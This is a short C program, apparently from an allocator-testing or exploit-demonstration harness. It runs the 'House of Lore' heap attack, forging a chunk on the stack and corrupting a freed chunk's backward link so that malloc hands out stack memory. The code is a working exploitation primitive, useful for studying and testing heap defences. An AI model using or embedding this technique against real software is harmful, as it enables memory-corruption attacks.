/* Usage: house_of_lore SIZE
   A free chunk's backward link leads to a forged chunk on the stack, which
   points back: the second request from the bin would be given the stack. */
#include "attack.h"

int main(int argc, char **argv)
{
    struct target t = { { 0 } };
    size_t n = size_arg(argv);
    warm(n);
    unsigned char *victim = take_raw(n);
    take(n);
    uint64_t *fake = &t.words[2], *second = &t.words[16];
    *size_word(fake) = (uint32_t)malloc_usable_size(victim) + 8 + 4;
    fake[0] = address(victim);
    fake[1] = address(second);
    second[0] = address(fake);
    watch(0, &t);
    to_bin(victim);
    links(victim)[1] = address(fake);
    for (int i = 0; i < 100; i++)
        take(n);
    return settle();
}
